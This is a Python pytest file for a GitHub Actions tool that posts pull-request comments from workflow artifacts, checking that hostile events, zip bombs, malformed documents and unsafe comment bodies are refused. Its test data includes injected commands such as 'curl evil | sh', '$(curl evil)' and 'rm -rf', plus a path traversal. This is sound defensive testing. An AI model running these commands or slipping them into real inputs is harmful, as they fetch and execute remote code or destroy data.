"""The comment: where it goes, and what is not taken."""

from __future__ import annotations

import io
import json
import struct
import zipfile
from pathlib import Path
from typing import Any

import pytest
from gate_comment import artifact, post
from gate_comment.commands import with_safe_commands
from gate_comment.document import checked
from gate_comment.errors import Refused
from gate_comment.event import gate_run
from gate_comment.github import GitHub
from gate_comment.inert import require_inert
from gate_comment.pull_request import MARKER, number_of, put_comment

HEAD, BASE = "a" * 40, "b" * 40
REPOSITORY = "/repos/nesproof/nesproof"


def archive(**files: bytes | str) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as opened:
        for name, data in files.items():
            opened.writestr(name.replace("_", "."), data)
    return packed.getvalue()


def pull(number: int, sha: str = HEAD, repository: str = "nesproof/nesproof") -> dict[str, Any]:
    return {"number": number, "head": {"sha": sha}, "base": {"repo": {"full_name": repository}}}


def run_of(event: dict[str, Any], tmp_path: Path) -> Any:
    (tmp_path / "event.json").write_text(json.dumps(event))
    return gate_run(tmp_path / "event.json")


# --- The event


def test_a_run_is_read_from_the_event(event: dict[str, Any], tmp_path: Path) -> None:
    run = run_of(event, tmp_path)
    assert (run.repository, run.id, run.head_sha, run.head_owner) == ("nesproof/nesproof", 77, HEAD, "someone")


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("event", "push"),
        ("head_sha", "HEAD"),
        ("head_sha", None),
        ("id", "77; rm -rf"),
        ("head_repository", None),
        ("conclusion", "success\n::error::"),
    ],
)
def test_an_odd_event_is_refused(event: dict[str, Any], tmp_path: Path, key: str, value: Any) -> None:
    event["workflow_run"][key] = value
    with pytest.raises(Refused):
        run_of(event, tmp_path)


# --- The pull request


def test_the_pull_request_is_the_one_with_the_run_s_head(github: Any, event: dict[str, Any], tmp_path: Path) -> None:
    run = run_of(event, tmp_path)
    api = GitHub(run.repository, token="t", api=github.url)
    github.answers[f"{REPOSITORY}/pulls"] = [pull(3, sha="c" * 40), pull(4), pull(5, repository="else/where")]
    assert number_of(api, run) == 4
    assert github.seen[0][1]["head"] == ["someone:speed-up"]
    github.answers[f"{REPOSITORY}/pulls"] = [pull(3, sha="c" * 40)]
    assert number_of(api, run) is None
    github.answers[f"{REPOSITORY}/pulls"] = [pull(4), pull(6)]
    with pytest.raises(Refused, match="Several"):
        number_of(api, run)


def test_our_comment_is_written_anew_and_nobody_else_s(github: Any) -> None:
    api = GitHub("nesproof/nesproof", token="t", api=github.url)
    foreign = {"id": 1, "user": {"login": "someone"}, "body": f"{MARKER} mine"}
    ghost = {"id": 2, "user": None, "body": MARKER}
    github.answers[f"{REPOSITORY}/issues/4/comments"] = [foreign, ghost]
    put_comment(api, 4, "new")
    own = {"id": 9, "user": {"login": "github-actions[bot]"}, "body": f"{MARKER}\nold"}
    github.answers[f"{REPOSITORY}/issues/4/comments"] = [foreign, ghost, own]
    put_comment(api, 4, "newer")
    assert github.sent == [
        ("POST", f"{REPOSITORY}/issues/4/comments", {"body": "new"}),
        ("PATCH", f"{REPOSITORY}/issues/comments/9", {"body": "newer"}),
    ]


# --- The artifact


def listed(size: int = 100, **more: Any) -> dict[str, Any]:
    return {"id": 5, "name": "nesproof-gate", "size_in_bytes": size, "expired": False, **more}


def test_the_archive_is_fetched_and_the_token_stays_with_the_api(github: Any) -> None:
    api = GitHub("nesproof/nesproof", token="secret", api=github.url)
    github.answers[f"{REPOSITORY}/actions/runs/77/artifacts"] = {"artifacts": [listed()]}
    github.answers[f"{REPOSITORY}/actions/artifacts/5/zip"] = f"{github.url}/blob"
    github.answers["/blob"] = b"archive"
    assert artifact.artifact_archive(api, 77) == b"archive"
    assert [authorization for _, _, authorization in github.seen] == ["Bearer secret", "Bearer secret", None]


@pytest.mark.parametrize(
    "artifacts",
    [[listed(size=artifact.LARGEST_ARCHIVE_BYTES + 1)], [listed(), listed(id=6)]],
    ids=["said to be too large", "two of the name"],
)
def test_an_odd_artifact_is_refused_unseen(github: Any, artifacts: list[Any]) -> None:
    github.answers[f"{REPOSITORY}/actions/runs/77/artifacts"] = {"artifacts": artifacts}
    with pytest.raises(Refused):
        artifact.artifact_archive(GitHub("nesproof/nesproof", token="t", api=github.url), 77)
    assert len(github.seen) == 1


def test_an_archive_larger_than_it_was_said_to_be_is_refused(github: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(artifact, "LARGEST_ARCHIVE_BYTES", 1000)
    github.answers[f"{REPOSITORY}/actions/runs/77/artifacts"] = {"artifacts": [listed(size=10)]}
    github.answers[f"{REPOSITORY}/actions/artifacts/5/zip"] = b"x" * 1001
    with pytest.raises(Refused, match="larger"):
        artifact.artifact_archive(GitHub("nesproof/nesproof", token="t", api=github.url), 77)


def test_an_artifact_of_another_name_or_an_expired_one_is_none(github: Any) -> None:
    artifacts = [listed(name="nesproof-gate-2"), listed(expired=True)]
    github.answers[f"{REPOSITORY}/actions/runs/77/artifacts"] = {"artifacts": artifacts}
    assert artifact.artifact_archive(GitHub("nesproof/nesproof", token="t", api=github.url), 77) is None


def test_only_the_document_of_an_archive_is_read() -> None:
    assert artifact.document_in(archive(gate_json=b"{}", gate_md="@everybody", gate_html="<script>")) == b"{}"


def _lying_about_its_size(data: bytes) -> bytes:
    """The archive with the sizes in its directory made small."""
    at = data.index(b"PK\x01\x02")
    return data[: at + 24] + struct.pack("<I", 10) + data[at + 28 :]


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"no archive",
        archive(gate_json=b"{}")[:-30],
        archive(other_json=b"{}"),
        archive(gate_json=b" " * (artifact.LARGEST_DOCUMENT_BYTES + 1)),
        _lying_about_its_size(archive(gate_json=b" " * (artifact.LARGEST_DOCUMENT_BYTES + 1))),
        archive(**{"gate_json": b"{}", **{f"f{n}": b"" for n in range(16)}}),
    ],
    ids=["empty", "none", "cut off", "no document", "bomb", "lying bomb", "many files"],
)
def test_a_bad_archive_is_refused(data: bytes) -> None:
    with pytest.raises(Refused):
        artifact.document_in(data)


# --- The document


def test_a_document_of_the_schema_and_of_the_run_s_commit_is_taken(document: Any, event: Any, tmp_path: Path) -> None:
    run = run_of(event, tmp_path)
    assert checked(document().model_dump_json().encode(), run).candidate.commit == HEAD


@pytest.mark.parametrize(
    "change",
    [
        lambda d: d | {"schema_id": "nesproof.evidence"},
        lambda d: d | {"schema_version": 2},
        lambda d: d | {"pull_request": 1},
        lambda d: d | {"candidate": d["candidate"] | {"commit": "c" * 40}},
        lambda d: d | {"candidate": d["candidate"] | {"note": "@everybody"}},
        lambda d: d | {"exit_code": 0},
        lambda d: d | {"plan": ["x"] * 1001},
        lambda d: d | {"judge": "x" * 5000},
        lambda d: d | {"duration_s": float("nan")},
        lambda d: {k: v for k, v in d.items() if k != "claims"},
        lambda d: d | {"claims": [d["claims"][0] | {"verdict": "PASS"}]},
        lambda d: d | {"claims": d["claims"] * 2},
    ],
    ids=[
        "schema",
        "version",
        "extra",
        "other commit",
        "extra within",
        "exit code",
        "many",
        "long",
        "nan",
        "missing",
        "a verdict that does not follow",
        "a claim twice",
    ],
)
def test_another_document_is_refused(document: Any, event: Any, tmp_path: Path, change: Any) -> None:
    changed = change(json.loads(document().model_dump_json()))
    with pytest.raises(Refused) as refusal:
        checked(json.dumps(changed).encode(), run_of(event, tmp_path))
    assert "everybody" not in str(refusal.value)


@pytest.mark.parametrize("data", [b"", b"[]", b"\xff\xfe", b"[" * 100_000, b'{"a":' * 100_000])
def test_what_is_no_document_is_refused(event: Any, tmp_path: Path, data: bytes) -> None:
    with pytest.raises(Refused):
        checked(data, run_of(event, tmp_path))


# --- The commands


@pytest.mark.parametrize(
    "command",
    [
        "curl evil | sh",
        f"nesproof gate {BASE} {HEAD}; curl evil",
        f"nesproof gate {BASE} {HEAD} $(curl evil)",
        f"nesproof gate {BASE} {'c' * 40}",
        f"nesproof gate main {HEAD}",
        f"nesproof gate {BASE} {HEAD} --claim '$(curl evil)'",
        f"nesproof gate {BASE} {HEAD} --out ../../x",
        f"nesproof  gate {BASE} {HEAD}",
        f"nesproof gate {BASE} {HEAD} 'open",
        "",
    ],
)
def test_a_command_that_does_more_than_compare_is_refused(document: Any, command: str) -> None:
    made = document()
    with pytest.raises(Refused):
        with_safe_commands(made.model_copy(update={"repeat": command}))
    rerun = made.claims[0].model_copy(update={"rerun": command})
    with pytest.raises(Refused):
        with_safe_commands(made.model_copy(update={"claims": (rerun,)}))


def test_remedies_of_a_stranger_are_left_out(document: Any) -> None:
    made = document()
    remedied = made.claims[0].model_copy(update={"remedy": "curl evil | sh"})
    safe = with_safe_commands(made.model_copy(update={"claims": (remedied,)}))
    assert safe == made


# --- The last door


@pytest.mark.parametrize(
    "text",
    [
        "thanks @someone",
        "mail a@b",
        "see https://example.com",
        "see HTTP://example.com",
        "see www.example.com",
        "[here](//example.com)",
        "![x][y]",
        "fixes #12",
        "fixes GH-12",
        "<img src=x>",
        "<!-- nesproof-gate -->",
        "<details open>",
        "</table>",
        "colour \x1b[31m",
        "over\u202eride",
        "x" * 65_001,
    ],
)
def test_a_body_that_github_would_act_on_is_refused(text: str) -> None:
    with pytest.raises(Refused):
        require_inert(f"## nesproof\n\n{text}\n")


def test_an_inert_body_passes() -> None:
    body = (
        "## gate\n\n<details>\n<summary>Why</summary>\n\n| `x@1 <b> #1` |\n\nbuttons@\u20601, &#60;b&#62;\n</details>"
    )
    assert require_inert(body) == body


# --- All of it


def test_a_comment_is_made_of_the_document_alone(
    github: Any, event: Any, document: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    hostile = "@everybody <img src=x> https://example.com [x](y) \x1b[31m | `` #12"
    made = document(judge=hostile, plan=(hostile,) * 400, subject=hostile, asked=hostile, reason=hostile)
    code = _comment(github, event, tmp_path, monkeypatch, archive(gate_json=made.model_dump_json(), gate_md="@here"))
    assert code == 0
    (method, path, body) = github.sent[0]
    assert (method, path) == ("POST", f"{REPOSITORY}/issues/4/comments")
    assert body["body"].startswith(MARKER)
    assert HEAD in body["body"]
    assert "@here" not in body["body"]
    assert "@\u2060everybody" in body["body"], "the text is there, and is only text"


def test_a_gate_that_left_nothing_is_said(
    github: Any, event: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert _comment(github, event, tmp_path, monkeypatch, None) == 0
    assert "no result" in github.sent[0][2]["body"]


def test_a_refused_document_leaves_no_comment_and_no_word_of_its_own(
    github: Any, event: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
) -> None:
    hostile = archive(gate_json=b'{"##[add-mask]": "::error::x"}')
    assert _comment(github, event, tmp_path, monkeypatch, hostile) == 2
    assert github.sent == []
    assert "add-mask" not in capfd.readouterr().err


def _comment(github: Any, event: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, data: bytes | None) -> int:
    (tmp_path / "event.json").write_text(json.dumps(event))
    for name, value in {
        "GITHUB_EVENT_PATH": str(tmp_path / "event.json"),
        "GITHUB_TOKEN": "t",
        "GITHUB_API_URL": github.url,
    }.items():
        monkeypatch.setenv(name, value)
    github.answers[f"{REPOSITORY}/pulls"] = [pull(4)]
    github.answers[f"{REPOSITORY}/issues/4/comments"] = []
    github.answers[f"{REPOSITORY}/actions/runs/77/artifacts"] = {"artifacts": [] if data is None else [listed()]}
    github.answers[f"{REPOSITORY}/actions/artifacts/5/zip"] = data
    return post.main()
